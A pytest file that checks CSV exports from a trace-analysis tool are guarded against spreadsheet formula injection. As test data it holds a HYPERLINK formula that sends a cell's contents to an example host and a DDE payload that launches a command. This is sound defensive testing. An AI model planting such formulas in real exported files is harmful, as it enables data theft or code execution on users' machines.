"""A table that is opened in a spreadsheet runs nothing that a trace is called."""

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from support.profiles import kineto

from analysis.render.tables import write_csv, write_frame
from analysis.wording import inert
from bench.cli.main import run

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["-1", "+2.5e-3", "-inf", "void f<float>()", "a=b", "", -1.5, None, True])
def test_numbers_and_plain_names_stay(cell: object) -> None:
    assert inert(cell) is cell


def test_every_way_to_write_a_table_keeps_formulas_out(tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", [{"name": FORMULA, FORMULA: -1}])
    frame = pd.DataFrame({"name": [FORMULA, None, "x"], "ns": [-1, 2, 3], FORMULA: [0.5, -0.5, None]})
    write_frame(tmp_path / "b.csv", frame.astype({"name": "category"}))
    for name in ("a.csv", "b.csv"):
        rows = list(csv.reader(io.StringIO((tmp_path / name).read_text(encoding="utf-8"))))
        assert rows[0][-1] == rows[1][0] == f"'{FORMULA}" and rows[1][1] == "-1"
    assert frame["name"][0] == FORMULA, "the frame itself is not changed"


def test_a_kernel_called_like_a_formula_is_none_in_the_tables_of_a_report(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    text = kineto()
    text = text.decode() if isinstance(text, bytes) else text
    path = tmp_path / "a.json"
    path.write_text(text.replace('"name": "', '"name": "=1+'))
    assert run(["analyze", str(path), "--csv", str(tmp_path / "csv")]) == 0
    cells = [
        cell
        for table in (tmp_path / "csv").glob("*.csv")
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8")))
        for cell in row
    ]
    assert any(cell.startswith("'=1+") for cell in cells) and not any(cell.startswith("=") for cell in cells)
